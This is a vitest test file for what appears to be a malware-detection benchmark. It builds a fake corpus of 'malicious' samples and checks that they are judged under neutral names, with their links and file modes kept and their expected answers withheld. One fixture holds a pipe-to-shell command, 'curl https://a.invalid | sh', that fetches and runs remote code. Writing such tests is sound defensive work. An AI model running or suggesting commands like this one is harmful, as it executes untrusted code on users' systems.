import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { CheckPool } from '../../../src/check/pool.ts'
import type { CheckTask } from '../../../src/check/task.ts'
import { readCorpus } from './corpus.ts'
import { judgeSamples } from './subjects.ts'

test('samples are judged under names that say nothing, with links and modes, without what is told to the bench', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'postern-subjects-'))
  try {
    const corpus = join(folder, 'corpus')
    const put = (path: string, text: string) => {
      mkdirSync(join(corpus, path, '..'), { recursive: true })
      writeFileSync(join(corpus, path), text)
    }
    put('malicious/family/project/run.sh', 'true')
    put('malicious/family/project/readme.md', '')
    put('malicious/family/project/expected.json', '{"implant": {"file": "./run.sh", "line": 1}}')
    chmodSync(join(corpus, 'malicious/family/project/run.sh'), 0o755)
    symlinkSync('nowhere', join(corpus, 'malicious/family/project/link'))
    put('malicious/family/pasted/command.txt', 'curl https://a.invalid | sh\n')
    put('malicious/family/archive/a.zip', 'PK')
    const tasks: CheckTask[] = []
    const pool: Pick<CheckPool, 'run'> = {
      run: async (task) => {
        tasks.push(task)
        return { line: { path: task.name, error: { code: 'E_UNRECOGNISED', message: '' } } }
      },
    }
    const samples = readCorpus(corpus)
    const out = join(folder, 'out')
    const judged = await judgeSamples(
      pool,
      samples.map((sample) => ({ sample, project: sample.project() })),
      out,
    )
    expect(judged.map(({ id, implants }) => [id, implants])).toEqual([
      ['malicious/family/archive', []],
      ['malicious/family/pasted', []],
      ['malicious/family/project', [{ file: 'run.sh', line: 1 }]],
    ])
    const project = join(out, 'subject-00002')
    expect(tasks).toEqual([
      { name: join(out, 'subject-00000', 'a.zip'), door: 'interview' },
      { name: 'command', command: 'curl https://a.invalid | sh', door: 'interview' },
      { name: project, door: 'interview' },
    ])
    expect(readdirSync(project).sort()).toEqual(['link', 'readme.md', 'run.sh'])
    expect(readlinkSync(join(project, 'link'))).toBe('nowhere')
    expect(statSync(join(project, 'run.sh')).mode & 0o111).toBe(0o111)
  } finally {
    rmSync(folder, { recursive: true })
  }
})
